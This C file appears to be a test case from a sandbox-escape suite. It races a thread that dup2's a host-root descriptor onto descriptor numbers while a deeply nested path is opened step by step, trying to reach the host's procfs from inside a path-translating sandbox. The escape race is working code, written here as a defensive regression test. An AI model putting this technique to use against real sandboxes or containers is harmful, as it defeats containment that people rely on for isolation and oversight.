/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * E9, E15: a name below a way that is longer than the kernel takes is opened in steps, through
 * descriptors of the tracee's; another thread puts the host's own "/" under every number that
 * they may get, where the last name is that of a mounted procfs.
 * ATTACK OPTIONS: -b /:/host
 * ATTACK BROKEN: STEPS
 */
#include "escape.h"

#define NUMBERS 6

static int host, first;

static void *flip(void *data)
{
	(void)data;
	for (;;)
		for (int fd = first; fd < first + NUMBERS; fd++) {
			dup2(host, fd);
			linger(200);
		}
	return NULL;
}

static bool is_of_the_host(int fd)
{
	unsigned long long number;
	struct stat info;
	int length;

	if (fstat(fd, &info) < 0)
		return false;
	for (const char *at = given("ESCAPE_HOST_DEVICES"); sscanf(at, "%llu%n", &number, &length) == 1; at += length)
		if (number == info.st_dev)
			return true;
	return false;
}

int main(void)
{
	struct race race = { 0 };
	unsigned long opened = 0;
	char name[201];

	enter_scratch();
	memset(name, 'd', 200);
	name[200] = '\0';
	for (int i = 0; i < 24; i++)
		if (mkdir(name, 0755) < 0 || chdir(name) < 0)
			broken("no deep directory");
	mkdir("proc", 0755);
	host = open("/host", O_PATH | O_DIRECTORY);
	if (host < 0)
		broken("no bind of everything");
	if (open("proc", O_RDONLY | O_DIRECTORY) < 0)
		broken("the directory cannot be opened");
	first = host + 2;
	start(flip, NULL);
	while (racing(&race)) {
		int fd = open("proc", O_RDONLY | O_DIRECTORY);

		opened += fd >= 0;
		if (fd >= 0 && is_of_the_host(fd))
			escaped("the host's procfs was opened");
		close(fd);
		for (int i = first; i < first + NUMBERS; i++) {
			if (is_of_the_host(i))
				escaped("the host's procfs was opened under a number of its own");
			if (race.rounds % 4 == 0)
				close(i);
		}
	}
	printf("%lu of %lu opened\n", opened, race.rounds);
	contained();
}
